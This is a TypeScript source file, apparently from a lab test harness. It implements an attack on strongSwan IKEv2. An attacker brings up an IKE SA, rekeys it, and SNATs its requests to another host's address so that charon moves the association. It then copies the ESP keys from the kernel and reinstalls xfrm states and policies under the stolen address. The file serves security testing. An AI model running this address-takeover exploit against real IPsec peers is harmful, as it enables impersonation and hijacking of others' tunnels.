import assert from "node:assert/strict";
import type { LabHost } from "../lab-host";
import type { Attacker } from "./attacker";
import type { Claim } from "./connection";

/** Reads of charon and the kernel about one IKE SA, and a wait for what is rekeyed. */
const functions = (name: string) => `set -e
  ike() { swanctl --list-sas --ike ${name} | sed -n 's/^[a-z].*, ESTABLISHED, IKEv2, \\([0-9a-f]*\\)_i.*/\\1/p' | tail -n 1; }
  spi() { swanctl --list-sas --ike ${name} | awk -v side="$1" '/INSTALLED/ { there = 1 } there && $1 == side { sub(",", "", $2); print $2; exit }'; }
  key() { ip xfrm state | awk -v spi="spi 0x$1 " 'index($0, spi) { there = 1 } there && /aead/ { print $3; exit }'; }
  rekey() {
    before=$($2 $3)
    swanctl --rekey $1 >/dev/null
    for try in $(seq 50); do
      after=$($2 $3)
      if [ -n "$after" ] && [ "$after" != "$before" ]; then return; fi
      sleep 0.2
    done
    echo "not rekeyed: $1" >&2
    return 1
  }`;

/** Has charon send from another address, so that the peer sees the requests come from there. */
const moveTo = ({ name, local: own, remote: victim }: Claim, taken: string) => `${functions(name)}
  iptables-legacy -t nat -A POSTROUTING -s ${own} -d ${victim} -p udp -j SNAT --to-source ${taken}
  conntrack -D -p udp >/dev/null 2>&1 || true
  rekey '--child all' spi in
  sleep 1`;

/** Gives the newest association the other address, in the attacker's kernel: charon there knows nothing of the move. */
const useAs = ({ name, local: own, remote: victim }: Claim, taken: string) => `${functions(name)}
  in=$(spi in) out=$(spi out)
  in_key=$(key "$in") out_key=$(key "$out")
  ip xfrm state del src ${own} dst ${victim} proto esp spi "0x$out"
  ip xfrm state del src ${victim} dst ${own} proto esp spi "0x$in"
  state() { ip xfrm state add src "$1" dst "$2" proto esp spi "0x$3" reqid 77 mode transport aead 'rfc4106(gcm(aes))' "$4" 128 $5; }
  # Far enough ahead of what was sent before.
  state ${taken} ${victim} "$out" "$out_key" 'replay-oseq 1000'
  state ${victim} ${taken} "$in" "$in_key"
  policy() { ip xfrm policy add src "$1" dst "$2" dir "$3" tmpl src "$1" dst "$2" proto esp reqid 77 mode transport; }
  policy ${taken} ${victim} out
  policy ${victim} ${taken} in`;

/**
 * Agrees on a link with a peer as itself, then moves it to the address of another host: charon follows the source of
 * the second request of an IKE SA wherever it comes from, and after a rekeying the requests are counted anew
 * (`process_message` in strongSwan's task_manager_v2.c). IPv4.
 */
export async function withMovedLink(
  attacker: Attacker,
  claim: Claim,
  { victim, taken }: { victim: LabHost; taken: string },
  work: () => Promise<void>,
): Promise<void> {
  const { host } = attacker;
  const { name } = claim;
  await attacker.takeCharon();
  const said = await attacker.initiate([claim]);
  assert.match(said.get(name) ?? "", /initiate completed successfully/);
  await host.text(`${functions(name)}\n  rekey '--ike ${name}' ike`);
  await attacker.posing([taken], [victim], async () => {
    await host.text(moveTo(claim, taken));
    await host.text(useAs(claim, taken));
    try {
      await work();
    } finally {
      await host.text("iptables-legacy -t nat -F; ip xfrm policy flush; ip xfrm state flush");
    }
  });
}
